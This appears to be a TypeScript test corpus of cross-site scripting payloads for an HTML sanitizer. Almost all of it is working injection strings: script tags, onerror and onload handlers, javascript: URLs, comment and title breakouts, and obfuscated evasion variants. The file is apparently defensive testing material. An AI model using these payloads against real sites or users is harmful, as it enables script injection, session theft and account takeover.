import { at } from './injection.ts'
import type { Family } from './injection.ts'

const hex = (text: string): string => [...text].map((sign) => `&#x${sign.charCodeAt(0).toString(16)};`).join('')

/** Elements that run code or fetch something once they stand in a page. */
export const markup: readonly Family[] = [
  at('element',
    (js) => `<script>${js}</script>`, (js) => `<ScRiPt >${js}</sCrIpT\n>`, (_, id) => `<script src=/pwned/${id}></script>`, (js) => `<script/x type=module>${js}</script/x>`, (js) => `</p><script\t>${js}\n//</script>`,
    (js) => `<<script>${js}//<</script>`, (js) => `<script>/*<script>*/${js}</script>`, (js) => `<script async defer nonce=a>${js}</script>`, (js) => `<scr<script>ipt></script><script>${js}</script>`, (js) => `<b>bold <script>${js};"</b>"</script>`,
  ),
  at('element',
    (js) => `<img src=x onerror=${js}>`, (js) => `<img src onerror="${js}">`, (js) => `<IMG/src='x:y'/OnErRoR='${js}'/>`, (js) => `<img src=x:x onerror\n=\n${js} alt="">`, (js) => `<image href=x src=x:x onerror=${js}>`,
    (js) => `<img src=x:x onerror=${hex(js)}>`, (_, id) => `<img src=/pwned/${id} alt=a `, (_, id) => `<img srcset="/pwned/${id} 1x">`, (js) => `<picture><source srcset=x:x><img onerror=${js} src=x:y></picture>`, (js) => `<img src=x:x onerror=${js} //`,
  ),
  at('element',
    (js) => `<svg onload=${js}>`, (js) => `<svg/onload="${js}"/>`, (js) => `<body onload=${js}>`, (js) => `<details open ontoggle=${js}>`, (js) => `<input autofocus onfocus=${js}>`, (js) => `<iframe onload=${js}></iframe>`,
    (js) => `<style onload=${js}></style>`, (js) => `<video><source src=x:x onerror=${js}></video>`, (js) => `<audio src=x:x onerror=${js}>`, (js) => `<script src=x:x onerror=${js}></script>`,
    (js) => `<style>@keyframes a{}</style><i style="animation:a" onanimationstart=${js}>i`, (js) => `<object data=x:x onerror=${js}></object>`, (js) => `<select autofocus onfocus=${js}>`, (js) => `<link rel=stylesheet href=x:x onerror=${js}>`,
  ),
  at('element',
    (js) => `<b onclick=${js}>tap</b>`, (js) => `<a href=# onmouseover=${js}>look</a>`, (js) => `<p onpointerenter="${js}">near</p>`, (js) => `<button onpointerdown='${js}'>press</button>`, (js) => `<i tabindex=1 onfocus=${js}>i</i>`, (js) => `<u onwheel=${js}>u</u>`,
    (js) => `<textarea oninput=${js}>`, (js) => `<div draggable=true ondragstart=${js}>pull`, (js) => `<p oncopy=${js}>copy`, (js) => `<p oncontextmenu=${js}>menu`, (js) => `<p ontouchstart=${js}>touch`, (js) => `<form onsubmit=${js}><button>go`,
  ),
  at('element',
    (js) => `<svg><script>${js}</script></svg>`, (js) => `<svg><set onbegin=${js} attributeName=x>`, (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`, (js) => `<svg><a href="javascript:${js}"><text y=9>x</text></a>`, (js) => `<svg><image href=x:x onerror=${js} />`,
    (js) => `<svg><foreignObject><body onload=${js}>`, (js) => `<svg><style><img src=x:x onerror=${js}></style>`, (_, id) => `<svg><use href="/pwned/${id}#a"/>`, (js) => `<math><mi><img src=x:x onerror=${js}>`, (_, id) => `<svg><script href="data:,ran(${id})"></script>`,
    (_, id) => `<svg><image href="/pwned/${id}" />`, (js) => `<math><mtext></form><svg onload=${js}>`,
  ),
  at('element',
    (js) => `<a href="javascript:${js}">x</a>`, (js) => `<a href="java\tscript:${js}">x</a>`, (js) => `<a href=" &#1; javascript:${js}">x</a>`, (js) => `<form action="javascript:${js}"><input type=submit>`, (js) => `<iframe src="javascript:${js}">`,
    (js) => `<button form=f formaction="javascript:${js}">x</button><form id=f>`, (_, id) => `<object data="data:text/html,<script>ran(${id})</script>">`, (js) => `<iframe srcdoc="<script>${js}</script>">`, (_, id) => `<iframe src=/pwned/${id}>`,
    (_, id) => `<meta http-equiv=refresh content="0;url=/pwned/${id}">`, (_, id) => `<link rel=stylesheet href=/pwned/${id}>`, (_, id) => `<base href=/pwned/${id}/><img src=a>`, (_, id) => `<embed src=/pwned/${id}>`, (_, id) => `<object data=/pwned/${id}>`, (_, id) => `<video poster=/pwned/${id}>`,
    (_, id) => `<form action=/pwned/${id}><button>go</button></form>`, (_, id) => `<body background=/pwned/${id}>`, (_, id) => `<input type=image src=/pwned/${id}>`,
  ),
  at('comment', (js) => `--><img src=x:x onerror=${js}>`, (js) => `--!><svg onload=${js}>`, (js) => `><script>${js}</script>`, (js) => `-><svg onload=${js}>`, (js) => `]]>--><script>${js}</script><!--`, (js) => `<!-- --><details open ontoggle=${js}>`, (js) => `-- ><b>--><svg/onload=${js}>`),
  { shapes: [
    ['title', (js) => `</title><script>${js}</script>`], ['textarea', (js) => `</textarea><img src=x:x onerror=${js}>`], ['noscript', (js) => `</noscript><svg onload=${js}>`], ['title', (js) => `</TITLE ><svg onload=${js}>`],
    ['textarea', (js) => `</textarea/><body onload=${js}>`], ['element', (js) => `<template></template><svg onload=${js}>`], ['element', (js) => `<xmp></xmp><svg onload=${js}>`], ['element', (js) => `</option></select></table><svg onload=${js}>`], ['element', (js) => `<noembed></noembed><svg onload=${js}>`],
  ] },
]
